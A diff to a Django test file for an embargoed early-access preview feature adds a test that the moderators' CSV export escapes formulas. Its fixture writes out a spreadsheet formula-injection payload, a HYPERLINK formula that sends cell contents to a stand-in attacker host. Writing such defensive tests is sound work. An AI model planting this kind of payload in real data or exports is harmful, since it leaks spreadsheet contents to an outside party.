@@ -13,7 +13,7 @@ from django.utils import timezone
 from wagtail.models import PageLogEntry
 
 from earlyaccess.models import Grant, Opening, Recipient
-from tests.earlyaccess.conftest import EMBARGO, TITLE, grant, make_recipient
+from tests.earlyaccess.conftest import EMBARGO, TITLE, grant, make_recipient, read
 
 LINK = re.compile(r"https?://[^\s\"<]+/anteprima/[A-Za-z0-9_-]{43}/")
 
@@ -174,7 +174,7 @@ def test_translators_cannot_see_recipients_or_openings(translator_client):
 def test_moderators_read_and_export_the_openings(moderator_client, editor_client, release, client):
     _item, token = grant(make_recipient(), release["it"], Grant.RELEASE)
     with before_the_embargo():
-        client.get(f"/anteprima/{token}/")
+        read(client, token)
         client.get(f"/anteprima/{token}/en/")
     index = reverse("earlyaccess_openings:index")
     assert "Giulia Ferri" in moderator_client.get(index).content.decode()
@@ -187,3 +187,20 @@ def test_moderators_read_and_export_the_openings(moderator_client, editor_client
     assert {row[1] for row in rows[1:]} == {"Giulia Ferri"}
     assert {row[5] for row in rows[1:]} == {"it", "en"}
     assert Opening.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_the_openings_csv_shows_a_formula_typed_as_a_name_as_text(moderator_client, release, client):
+    """Recipients are proposed by Editors: a name or organisation must not run as a formula in a spreadsheet."""
+    recipient = make_recipient(
+        name='=HYPERLINK("https://evil.example/?"&A1, "Click")', organisation="+39 Press", email="x@example.org"
+    )
+    _item, token = grant(recipient, release["it"], Grant.RELEASE)
+    with before_the_embargo():
+        read(client, token)
+
+    export = moderator_client.get(reverse("earlyaccess_openings:index"), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    assert rows[1][2] == "'+39 Press"
+    assert rows[1][5] == "it", "plain values are unchanged"
